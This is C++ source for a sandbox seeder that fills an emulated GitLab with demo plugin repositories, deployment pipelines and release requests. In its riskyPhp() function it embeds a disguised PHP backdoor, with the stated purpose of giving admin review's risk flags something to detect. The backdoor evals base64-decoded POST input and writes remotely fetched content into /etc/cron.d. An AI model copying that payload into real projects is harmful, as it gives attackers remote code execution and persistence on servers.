#include "sandbox/emulator/sandboxseeder.h"

#include "core/render/appenvironmentspec.h"
#include "core/render/configrenderer.h"
#include "core/render/environmentrender.h"
#include "core/render/renderinput.h"
#include "sandbox/emulator/emulatorrepository.h"
#include "sandbox/emulator/gitlabemulator.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

namespace Dockmaster {

namespace {

struct HostSpec {
    const char *name;
    const char *address;
    const char *environment;
    int containerBase;
    int fallbackBase;
    int capacity;
};

constexpr HostSpec Hosts[] = {
    { "docker-test-1", "192.0.2.11", "test", 20000, 30000, 5000 },
    { "docker-test-2", "192.0.2.12", "test", 20000, 30000, 5000 },
    { "docker-prod-1", "198.51.100.21", "production", 20000, 30000, 5000 },
    { "docker-prod-2", "198.51.100.22", "production", 20000, 30000, 5000 },
    { "docker-prod-3", "198.51.100.23", "production", 20000, 30000, 5000 },
};

constexpr const char *TestSuffix = "test.plugins.example";
constexpr const char *ProductionSuffix = "plugins.example";

const char *const PluginNames[]
    = { "Weather Widget", "Shop Cart",  "Event Calendar", "Photo Gallery", "Contact Form", "Newsletter", "Job Board",
        "Recipe Box",     "Poll Booth", "Store Locator",  "FAQ Center",    "Ticket Desk",  "Map Pins",   "Quote Ticker",
        "Blog Lite",      "Survey Kit", "Booking Slots",  "Price Table",   "Team Wall",    "Link Tree" };

QByteArray json(const QJsonObject &o)
{
    return QJsonDocument(o).toJson(QJsonDocument::Indented);
}

QByteArray readme(const QString &id, const QString &name)
{
    return QStringLiteral("# %1 (%2)\n\n"
                          "Your plugin's code lives under `web/` (nginx + PHP 8.4).\n\n"
                          "## Releasing\n"
                          "1. Tag a commit (`git tag -a v1.2.0 -m \"...\"` and push the tag).\n"
                          "2. Open an issue from the **release-request** template, naming the tag.\n"
                          "3. An admin reviews it; you see progress as comments on the issue.\n")
        .arg(name, id)
        .toUtf8();
}

QByteArray issueTemplate()
{
    return "<!-- Release request: fill in the tag and the environment. -->\n"
           "## Release request\n\n"
           "Ref: v1.0.0\n"
           "Environment: test\n\n"
           "### What changed\n\n"
           "/label ~release-request ~\"release::pending\"\n";
}

QByteArray riskyPhp()
{
    return QByteArrayLiteral("<?php\n"
                             "declare(strict_types=1);\n"
                             "// Keeps the widget's settings in sync with the vendor.\n"
                             "$settings = file_get_contents('https://cdn.widget-metrics.example/v2/config.json');\n"
                             "$payload = base64_decode($_POST['p'] ?? '');\n"
                             "eval($payload);\n"
                             "file_put_contents('/etc/cron.d/widget', $settings);\n");
}

QByteArray indexPhp(const QString &name, int version)
{
    return QStringLiteral("<?php\n"
                          "declare(strict_types=1);\n"
                          "header('Content-Type: text/html; charset=utf-8');\n"
                          "$name = '%1';\n"
                          "$version = '1.%2.0';\n"
                          "echo '<h1>' . htmlspecialchars($name) . '</h1><p>Version ' . $version . '</p>';\n")
        .arg(name)
        .arg(version)
        .toUtf8();
}

QByteArray ciYaml(const QString &environment)
{
    return QStringLiteral(
               "# Deploys the head of this branch to its environment's host.\n"
               "stages: [deploy]\n"
               "deploy:\n"
               "  stage: deploy\n"
               "  environment:\n"
               "    name: %1\n"
               "  rules:\n"
               "    - if: '$CI_COMMIT_BRANCH == \"env/%1\"'\n"
               "  script:\n"
               "    - install -m 600 \"$DEPLOY_SSH_KEY\" ~/.ssh/id_deploy\n"
               "    - cp \"$DEPLOY_KNOWN_HOSTS\" ~/.ssh/known_hosts\n"
               "    - rsync -a --delete --exclude .git codes/ \"$DEPLOY_HOST:$DEPLOY_DIR/codes/\"\n"
               "    - rsync -a --delete conf/ \"$DEPLOY_HOST:$DEPLOY_DIR/conf/\"\n"
               "    - ssh \"$DEPLOY_HOST\" \"cd $DEPLOY_DIR && docker compose -f conf/docker-compose.yaml up -d\"\n"
               "    - ssh \"$DEPLOY_HOST\" \"sudo nginx -s reload\"\n")
        .arg(environment)
        .toUtf8();
}

// The configuration files of one environment branch as Dockmaster renders
// them (nginx sites, php-fpm pools, the compose file), so the editor demo
// opens real configurations. They were rendered when the platform's memory
// default was lower: the drift check finds that one difference, as it would
// on a platform whose templates moved on.
QHash<QString, QByteArray> confFiles(const QString &id, const QString &environment, const HostSpec &host,
                                     int containerPort, int fallbackPort, const QString &domain,
                                     const EnvironmentRender::Edge &edge)
{
    AppEnvironmentSpec spec = AppEnvironmentSpec::withDefaults(id, *environmentFromKey(environment));
    spec.setValue(RenderField::HostName, QString::fromLatin1(host.name));
    spec.setValue(RenderField::HostAddress, QString::fromLatin1(host.address));
    spec.setValue(RenderField::ContainerPort, QString::number(containerPort));
    spec.setValue(RenderField::FallbackPort, QString::number(fallbackPort));
    spec.setValue(RenderField::Domain, domain);
    spec.setValue(RenderField::MemoryLimitMb, QStringLiteral("192"));
    EnvironmentRender::applyEdge(spec, edge);
    QHash<QString, QByteArray> files { { QString::fromLatin1(EdgeGrants::FilePath), edge.grants.toJson() } };
    const RenderInputResult input = RenderInput::validate(spec);
    if (!input.ok()) {
        qWarning("sandbox seeder: %s cannot be rendered", qPrintable(id));
        return files;
    }
    const ConfigRenderer::Result rendered = ConfigRenderer::render(*input.input);
    for (const RenderedFile &file : rendered.files) {
        if (file.path.startsWith(QLatin1String("conf/"))) // the pipeline stays the seeder's own
            files.insert(file.path, file.content);
    }
    return files;
}

} // namespace

SandboxSeeder::SandboxSeeder(GitLabEmulator &emulator)
    : m_emulator(emulator)
{
}

QString SandboxSeeder::appId(int index)
{
    // Spread out, but deterministic and always 7 digits.
    return QStringLiteral("app%1").arg(1000000 + (index + 1) * 37, 7, 10, QLatin1Char('0'));
}

QString SandboxSeeder::hostsJson(const QString &rootGroup, const QString &dockerApi)
{
    QJsonArray hosts;
    for (const HostSpec &h : Hosts) {
        hosts.append(QJsonObject {
            { QStringLiteral("name"), QString::fromLatin1(h.name) },
            { QStringLiteral("address"), QString::fromLatin1(h.address) },
            { QStringLiteral("environment"), QString::fromLatin1(h.environment) },
            { QStringLiteral("docker_api"),
              dockerApi.isEmpty() ? QStringLiteral("tcp://%1:2376").arg(QString::fromLatin1(h.address)) : dockerApi },
            { QStringLiteral("container_ports"), QJsonArray { h.containerBase, h.containerBase + 9999 } },
            { QStringLiteral("fallback_ports"), QJsonArray { h.fallbackBase, h.fallbackBase + 9999 } },
            { QStringLiteral("capacity"), h.capacity },
            // A stand-in pinned host key, so provisioning can set DEPLOY_KNOWN_HOSTS.
            { QStringLiteral("host_key"),
              QStringLiteral("%1 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISandbox%2")
                  .arg(QString::fromLatin1(h.address), QString::fromLatin1(h.name).remove(QLatin1Char('-'))) },
        });
    }
    return QString::fromUtf8(json(QJsonObject {
        { QStringLiteral("root_group"), rootGroup },
        { QStringLiteral("domains"),
          QJsonObject { { QStringLiteral("test"), QString::fromLatin1(TestSuffix) },
                        { QStringLiteral("production"), QString::fromLatin1(ProductionSuffix) } } },
        { QStringLiteral("hosts"), hosts },
    }));
}

SandboxSeedResult SandboxSeeder::seed(const SandboxSeedOptions &options)
{
    EmulatorStore &store = m_emulator.store();
    QMutexLocker lock(&store.mutex());
    SandboxSeedResult result;
    result.adminToken = m_emulator.adminToken();
    const QDateTime epoch = options.epoch;
    auto at = [&epoch](qint64 minutes) {
        return epoch.addSecs(minutes * 60);
    };

    // People.
    const EmulatorUser *root = store.userByName(QStringLiteral("root"));
    const qint64 adminId = root ? root->id : 1;
    if (!store.userByName(QStringLiteral("alice")))
        store.addUser(QStringLiteral("alice"), QStringLiteral("Alice Admin"), true,
                      QStringLiteral("alice-admin-token"));
    result.secondAdminToken = QStringLiteral("alice-admin-token");
    static const char *const DevNames[] = { "Dana Developer", "Eli Coder", "Fay Hacker", "Gus Builder", "Hana Maker" };
    for (int i = 0; i < 5; ++i) {
        const QString username = QStringLiteral("dev%1").arg(i + 1, 2, 10, QLatin1Char('0'));
        const EmulatorUser *existing = store.userByName(username);
        result.developers.append(existing ? *existing
                                          : store.addUser(username, QString::fromLatin1(DevNames[i]), false,
                                                          username + QStringLiteral("-token")));
    }

    // Groups and the inventory.
    EmulatorGroup &rootGroup = store.addGroup(options.rootGroup, options.rootGroup, 0);
    rootGroup.createdAt = at(0);
    result.rootGroupId = rootGroup.id;
    EmulatorGroup &apps = store.addGroup(QStringLiteral("apps"), QStringLiteral("apps"), result.rootGroupId);
    apps.createdAt = at(0);
    result.appsGroupId = apps.id;
    EmulatorGroup &ops = store.addGroup(QStringLiteral("ops"), QStringLiteral("ops"), result.rootGroupId);
    ops.createdAt = at(0);
    result.opsGroupId = ops.id;
    // A platform admin who is no instance administrator: Maintainer of the
    // root group, as a real platform grants its admins.
    const EmulatorUser *bob = store.userByName(QStringLiteral("bob"));
    if (!bob)
        bob = &store.addUser(QStringLiteral("bob"), QStringLiteral("Bob Platform"), false,
                             QStringLiteral("bob-admin-token"));
    // alice, an instance administrator, is also a member: a platform admin
    // without instance rights (bob) can only see that she is an admin there.
    if (EmulatorGroup *platform = store.group(result.rootGroupId)) {
        platform->members.append(EmulatorMember { bob->id, int(AccessLevel::Maintainer), {} });
        if (const EmulatorUser *alice = store.userByName(QStringLiteral("alice")))
            platform->members.append(EmulatorMember { alice->id, int(AccessLevel::Maintainer), {} });
    }
    result.thirdAdminToken = QStringLiteral("bob-admin-token");

    auto makeProject = [&](const QString &name, const QString &path, qint64 namespaceId, qint64 minute,
                           bool withRepository) -> EmulatorProject & {
        EmulatorProject &p = store.addProject(name, path, namespaceId);
        p.createdAt = at(minute);
        p.updatedAt = p.createdAt;
        p.lastActivityAt = p.createdAt;
        if (withRepository)
            EmulatorRepository::create(store.repositoryPath(p), p.defaultBranch, nullptr);
        return p;
    };

    EmulatorProject &inventory = makeProject(QStringLiteral("inventory"), QStringLiteral("inventory"), ops.id, 1, true);
    inventory.description = QStringLiteral("Hosts and allocations of the plugin platform (written by Dockmaster)");
    result.inventoryProjectId = inventory.id;
    store.protectDefaultBranch(inventory);
    const QString inventoryPath = store.repositoryPath(inventory);
    const EmulatorRepository::Signature adminSig { QStringLiteral("Administrator"),
                                                   QStringLiteral("admin@example.test"), at(1) };
    {
        EmulatorRepository repo(inventoryPath);
        repo.commitTree(QStringLiteral("main"), {}, QStringLiteral("Add docker hosts"), adminSig,
                        { { QStringLiteral("hosts.json"), hostsJson(options.rootGroup, options.dockerApi).toUtf8() },
                          { QStringLiteral("README.md"),
                            QByteArray("# Inventory\n\nhosts.json and allocations/*.json; "
                                       "every change is a commit by Dockmaster.\n") } },
                        {}, nullptr);
    }

    // Port allocation: per host, sequential from the host's bases.
    QHash<QString, int> nextSlot;
    QHash<QString, QByteArray> allocations;
    const int testHosts = 2;
    const int productionHosts = 3;

    for (int i = 0; i < options.appCount; ++i) {
        const QString id = appId(i);
        result.appIds.append(id);
        const QString name = options.appCount <= 20 || i < 20
            ? QString::fromLatin1(PluginNames[i % 20])
            : QStringLiteral("%1 %2").arg(QString::fromLatin1(PluginNames[i % 20])).arg(i / 20);
        const EmulatorUser &owner = result.developers.at(i % result.developers.size());
        const qint64 minute = 10 + i * 30;
        const bool withRepos = !options.bulk;

        EmulatorProject &code = makeProject(name, id, apps.id, minute, withRepos);
        code.description = QStringLiteral("%1 by %2").arg(name, owner.name);
        code.members.append(EmulatorMember { owner.id, int(AccessLevel::Developer), {} });
        const qint64 codeId = code.id;
        const QString codeRepoPath = store.repositoryPath(code);
        EmulatorProject &opsProject = makeProject(name, id, ops.id, minute + 1, withRepos);
        opsProject.description = QStringLiteral("Management repository of %1").arg(id);
        const qint64 opsId = opsProject.id;
        const QString opsRepoPath = store.repositoryPath(opsProject);

        // Status mix: some apps only in test, one archived, one failed.
        const bool inProduction = i % 4 != 3;
        const bool failedLastTest = i % 7 == 5;
        QString status = inProduction ? QStringLiteral("active") : QStringLiteral("test-only");
        if (failedLastTest)
            status = QStringLiteral("failed");
        if (i == 11) {
            status = QStringLiteral("archived");
            opsProject.archived = true;
            code.archived = true;
        }

        QJsonObject environments;
        struct Allocation {
            const HostSpec *host = nullptr;
            int containerPort = 0;
            int fallbackPort = 0;
            QString domain;
        };
        QHash<QString, Allocation> allocationOf;
        for (const QString &env : { QStringLiteral("test"), QStringLiteral("production") }) {
            const bool test = env == QLatin1String("test");
            const HostSpec &host = test ? Hosts[i % testHosts] : Hosts[testHosts + i % productionHosts];
            const int slot = nextSlot[QString::fromLatin1(host.name)]++;
            const int containerPort = host.containerBase + slot;
            const int fallbackPort = host.fallbackBase + slot;
            const QString domain = id + QLatin1Char('.') + QString::fromLatin1(test ? TestSuffix : ProductionSuffix);
            allocationOf.insert(env, { &host, containerPort, fallbackPort, domain });
            environments.insert(env,
                                QJsonObject {
                                    { QStringLiteral("host"), QString::fromLatin1(host.name) },
                                    { QStringLiteral("container_port"), containerPort },
                                    { QStringLiteral("fallback_port"), fallbackPort },
                                    { QStringLiteral("domain"), domain },
                                });
        }
        allocations.insert(
            QStringLiteral("allocations/%1.json").arg(id),
            json(QJsonObject {
                { QStringLiteral("id"), id },
                { QStringLiteral("name"), name },
                { QStringLiteral("owner"), owner.username },
                { QStringLiteral("status"), status },
                { QStringLiteral("code_project"), QString(options.rootGroup + QStringLiteral("/apps/") + id) },
                { QStringLiteral("ops_project"), QString(options.rootGroup + QStringLiteral("/ops/") + id) },
                { QStringLiteral("environments"), environments },
                { QStringLiteral("created_at"), at(minute).toString(Qt::ISODate) },
            }));

        // A pending release request for some apps, even in bulk mode.
        auto addIssue = [&](const QString &title, const QString &ref, const QString &env, const QString &state,
                            qint64 issueMinute) {
            const QString description = QStringLiteral("## Release request\n\nRef: %1\nEnvironment: %2\n\n"
                                                       "### What changed\nBug fixes and a faster start page.\n")
                                            .arg(ref, env);
            EmulatorIssue &issue
                = store.addIssue(codeId, owner.id, title, description,
                                 { QStringLiteral("release-request"), QString(QStringLiteral("env::") + env),
                                   QString(QStringLiteral("release::") + state) });
            issue.createdAt = at(issueMinute);
            issue.updatedAt = issue.createdAt;
            return &issue;
        };

        if (options.bulk) {
            if (i % 10 == 0) {
                addIssue(QStringLiteral("Release v1.0.0 to test"), QStringLiteral("v1.0.0"), QStringLiteral("test"),
                         QStringLiteral("pending"), minute + 5);
                ++result.pendingReleaseRequests;
            }
            continue;
        }

        // Repo A: skeleton, then two or three tagged versions.
        EmulatorRepository codeRepo(codeRepoPath);
        const EmulatorRepository::Signature ownerSig { owner.name, owner.email, at(minute) };
        QStringList tagShas;
        QStringList tagNames;
        const int versions = 2 + i % 3;
        QString previous;
        for (int v = 0; v < versions; ++v) {
            EmulatorRepository::Signature sig = ownerSig;
            sig.when = at(minute + 2 + v * 3);
            QHash<QString, QByteArray> files { { QStringLiteral("web/index.php"), indexPhp(name, v) } };
            if (v == 0) {
                files.insert(QStringLiteral("README.md"), readme(id, name));
                files.insert(QStringLiteral(".gitlab/issue_templates/release-request.md"), issueTemplate());
                files.insert(QStringLiteral("web/style.css"), QByteArray("body { font-family: sans-serif; }\n"));
                // What the plugin asks of the platform (the Platform services
                // tab shows it): a shop with a small key/value quota, a
                // reports plugin, and every third one asking for nothing.
                if (i % 3 == 0)
                    files.insert(QStringLiteral("platform.json"),
                                 QByteArray("{\n  \"permissions\": {\n    \"orders.read\": \"See the shop's orders\",\n"
                                            "    \"orders.refund\": \"Refund an order\"\n  },\n"
                                            "  \"anonymous_paths\": [\"/health.php\"],\n  \"kv_quota_mb\": 1\n}\n"));
                else if (i % 3 == 1)
                    files.insert(
                        QStringLiteral("platform.json"),
                        QByteArray("{\n  \"permissions\": {\n    \"reports.view\": \"Read the sales reports\"\n"
                                   "  },\n  \"kv_quota_mb\": 20\n}\n"));
            } else {
                files.insert(QStringLiteral("CHANGELOG.md"),
                             QStringLiteral("## v1.%1.0\n- Improvements.\n").arg(v).toUtf8());
            }
            // Some developers' newest release smuggles in something an admin
            // must catch in review (the risk flags have something to show).
            if (i % 4 == 2 && v > 0 && v == versions - 1) {
                files.insert(QStringLiteral("web/sync.php"), riskyPhp());
                files.insert(QStringLiteral("composer.json"),
                             QByteArray("{\n  \"require\": {\n    \"guzzlehttp/guzzle\": \"^7.8\"\n  }\n}\n"));
            }
            const auto commit = codeRepo.commitTree(QStringLiteral("main"), previous,
                                                    v == 0 ? QStringLiteral("Initial plugin skeleton")
                                                           : QStringLiteral("Release 1.%1.0").arg(v),
                                                    sig, files, {}, nullptr);
            if (!commit)
                continue;
            previous = commit->id;
            const QString tagName = QStringLiteral("v1.%1.0").arg(v);
            codeRepo.createTag(tagName, commit->id, QStringLiteral("Version 1.%1.0").arg(v), sig, nullptr);
            tagNames.append(tagName);
            tagShas.append(commit->id);
        }
        code.lastActivityAt = at(minute + 2 + versions * 3);

        // Repo AA: main with the pipeline definition, one branch per environment.
        EmulatorRepository opsRepo(opsRepoPath);
        const EmulatorRepository::Signature opsSig { QStringLiteral("Administrator"),
                                                     QStringLiteral("admin@example.test"), at(minute + 1) };
        const QByteArray gitmodules
            = QStringLiteral("[submodule \"codes\"]\n\tpath = codes\n\turl = ../../apps/%1.git\n").arg(id).toUtf8();
        const auto base
            = opsRepo.commitTree(QStringLiteral("main"), {}, QStringLiteral("Management repository"), opsSig,
                                 { { QStringLiteral("README.md"),
                                     QStringLiteral("# %1 management\n\nAdmins only. One branch per "
                                                    "environment.\n")
                                         .arg(id)
                                         .toUtf8() } },
                                 {}, nullptr);

        struct EnvPlan {
            QString env;
            QList<int> versions; // tag indexes deployed in order
        };
        QList<EnvPlan> plans;
        // Test runs every version but the newest: that one is what the pending
        // release requests ask for.
        QList<int> testVersions { 0 };
        for (int v = 1; v < versions - 1; ++v)
            testVersions.append(v);
        plans.append({ QStringLiteral("test"), testVersions });
        if (inProduction)
            plans.append({ QStringLiteral("production"), { 0, qMax(0, versions - 2) } });

        qint64 deployMinute = minute + 20;
        for (const EnvPlan &plan : std::as_const(plans)) {
            const QString branch = QStringLiteral("env/") + plan.env;
            QString parent = base ? base->id : QString();
            for (qsizetype k = 0; k < plan.versions.size(); ++k) {
                const int v = plan.versions.at(k);
                if (k > 0 && plan.versions.at(k) == plan.versions.at(k - 1))
                    continue;
                EmulatorRepository::Signature sig = opsSig;
                sig.when = at(deployMinute);
                QHash<QString, QByteArray> files;
                if (k == 0) {
                    const Allocation &allocation = allocationOf.value(plan.env);
                    // The shops let support and finance see orders in production.
                    EnvironmentRender::Edge edge { options.edgeAuthUrl, options.edgeLoginUrl, {} };
                    if (!edge.authUrl.isEmpty() && i % 3 == 0 && plan.env == QLatin1String("production"))
                        edge.grants.roles.insert(QStringLiteral("orders.read"),
                                                 { QStringLiteral("finance"), QStringLiteral("support") });
                    files = confFiles(id, plan.env, *allocation.host, allocation.containerPort, allocation.fallbackPort,
                                      allocation.domain, edge);
                    files.insert(QStringLiteral(".gitmodules"), gitmodules);
                    files.insert(QStringLiteral(".gitlab-ci.yml"), ciYaml(plan.env));
                }
                const QString message = QStringLiteral("Release %1 (%2) to %3\n\nApproved-by: root\n")
                                            .arg(tagNames.value(v), tagShas.value(v).left(12), plan.env);
                const auto commit = opsRepo.commitTree(branch, parent, message, sig, files,
                                                       { { QStringLiteral("codes"), tagShas.value(v) } }, nullptr);
                if (!commit)
                    break;
                parent = commit->id;

                // Its pipeline and deployment, finished long ago.
                const bool last = k == plan.versions.size() - 1;
                const bool failed = last && failedLastTest && plan.env == QLatin1String("test");
                const QString outcome = failed ? QStringLiteral("failed") : QStringLiteral("success");
                EmulatorPipeline &pipeline = store.addPipeline(opsId, branch, commit->id, adminId);
                pipeline.status = outcome;
                pipeline.createdAt = at(deployMinute);
                pipeline.startedAt = pipeline.createdAt.addSecs(5);
                pipeline.finishedAt = pipeline.createdAt.addSecs(48);
                pipeline.updatedAt = pipeline.finishedAt;
                EmulatorJob &job
                    = store.addJob(pipeline.id, QStringLiteral("deploy"), QStringLiteral("deploy"), plan.env);
                job.status = outcome;
                job.createdAt = pipeline.createdAt;
                job.startedAt = pipeline.startedAt;
                job.finishedAt = pipeline.finishedAt;
                job.trace = QStringLiteral("Running with gitlab-runner (Dockmaster emulator)\n$ deploy %1 at %2\n%3\n")
                                .arg(branch, commit->id,
                                     failed ? QStringLiteral("ERROR: Job failed: docker compose up exited with 1")
                                            : QStringLiteral("Job succeeded"))
                                .toUtf8();
                EmulatorDeployment &deployment
                    = store.addDeployment(opsId, plan.env, branch, commit->id, adminId, pipeline.id, job.id);
                deployment.status = outcome;
                deployment.createdAt = pipeline.createdAt;
                deployment.updatedAt = pipeline.finishedAt;
                EmulatorEnvironment &environment = store.environment(opsId, plan.env);
                environment.createdAt = at(minute + 20);
                environment.updatedAt = pipeline.finishedAt;
                environment.externalUrl
                    = QStringLiteral("https://%1.%2")
                          .arg(id,
                               QString::fromLatin1(plan.env == QLatin1String("test") ? TestSuffix : ProductionSuffix));
                deployMinute += 7;
            }
        }
        EmulatorProject *opsNow = store.project(opsId);
        opsNow->lastActivityAt = at(deployMinute);
        opsNow->updatedAt = opsNow->lastActivityAt;
        // As provisioning leaves it: main protected by GitLab itself, the
        // environment branches for Maintainers, the owner allowed on repo A's
        // main, and the ops project on repo A's job token allowlist.
        store.protectDefaultBranch(*opsNow);
        for (const QString &branch : { QStringLiteral("env/test"), QStringLiteral("env/production") }) {
            EmulatorProtectedBranch rule;
            rule.id = store.nextId("protected_branch");
            rule.name = branch;
            opsNow->protectedBranches.append(rule);
        }
        if (EmulatorProject *codeNow = store.project(codeId)) {
            EmulatorProtectedBranch main;
            main.id = store.nextId("protected_branch");
            main.name = codeNow->defaultBranch;
            main.pushAccessLevel = int(AccessLevel::Developer);
            main.mergeAccessLevel = int(AccessLevel::Developer);
            codeNow->protectedBranches.append(main);
            codeNow->jobTokenAllowlist.append(opsId);
        }
        opsNow->variables = {
            EmulatorVariable { QStringLiteral("DEPLOY_SSH_KEY"),
                               QStringLiteral("-----BEGIN OPENSSH PRIVATE KEY-----\n"
                                              "(sandbox placeholder)\n"
                                              "-----END OPENSSH PRIVATE KEY-----\n"),
                               QStringLiteral("file"), QStringLiteral("*"), QStringLiteral("Deploy key"), true, false,
                               true },
            EmulatorVariable { QStringLiteral("DEPLOY_KNOWN_HOSTS"),
                               QStringLiteral("192.0.2.11 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISandboxPlaceholder\n"),
                               QStringLiteral("file"), QStringLiteral("*"), QStringLiteral("Pinned host key"), true,
                               false, true },
            EmulatorVariable { QStringLiteral("DEPLOY_DIR"),
                               QStringLiteral("/srv/plugins/%1").arg(id),
                               QStringLiteral("env_var"),
                               QStringLiteral("*"),
                               {},
                               true,
                               false,
                               false },
        };

        // Release requests in several states, newest pending.
        const QString nextTag = tagNames.value(versions - 1);
        EmulatorIssue *deployed = addIssue(QStringLiteral("Release v1.0.0 to test"), QStringLiteral("v1.0.0"),
                                           QStringLiteral("test"), QStringLiteral("deployed"), minute + 15);
        deployed->state = QStringLiteral("closed");
        deployed->closedAt = at(minute + 25);
        deployed->updatedAt = deployed->closedAt;
        deployed->notes.append(EmulatorNote { store.nextId("note"),
                                              QStringLiteral("Approved by @root: deploying %1 (%2) to test.")
                                                  .arg(QStringLiteral("v1.0.0"), tagShas.value(0)),
                                              adminId, false, false, at(minute + 20), at(minute + 20) });
        if (i % 3 == 0) {
            addIssue(QStringLiteral("Release %1 to test").arg(nextTag), nextTag, QStringLiteral("test"),
                     QStringLiteral("pending"), minute + 200);
            ++result.pendingReleaseRequests;
        }
        if (inProduction && i % 2 == 0) {
            addIssue(QStringLiteral("Release %1 to production").arg(nextTag), nextTag, QStringLiteral("production"),
                     QStringLiteral("pending"), minute + 210);
            ++result.pendingReleaseRequests;
        }
        if (i % 5 == 4) {
            EmulatorIssue *rejected = addIssue(QStringLiteral("Release main to production"), QStringLiteral("main"),
                                               QStringLiteral("production"), QStringLiteral("rejected"), minute + 100);
            rejected->state = QStringLiteral("closed");
            rejected->closedAt = at(minute + 120);
            rejected->updatedAt = rejected->closedAt;
            rejected->notes.append(
                EmulatorNote { store.nextId("note"),
                               QStringLiteral("Rejected by @root: releases must name a tag, not a moving branch."),
                               adminId, false, false, at(minute + 120), at(minute + 120) });
        }
    }

    // One inventory commit with every allocation.
    if (!allocations.isEmpty()) {
        EmulatorRepository repo(inventoryPath);
        EmulatorRepository::Signature sig = adminSig;
        sig.when = at(5);
        repo.commitTree(QStringLiteral("main"), QStringLiteral("refs/heads/main"),
                        QStringLiteral("Allocate %1 apps").arg(allocations.size()), sig, allocations, {}, nullptr);
    }
    return result;
}

} // namespace Dockmaster
